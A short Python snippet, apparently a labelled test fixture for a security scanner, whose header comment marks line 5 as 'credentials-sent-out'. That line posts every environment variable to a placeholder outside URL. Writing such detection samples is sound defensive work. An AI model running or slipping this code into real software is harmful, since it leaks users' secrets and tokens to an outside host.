# expect: 5 credentials-sent-out
import os
import httpx
where = 'https://hooks.example.net/in'
httpx.post(where, json={'machine': 'a', 'all': os.environ})
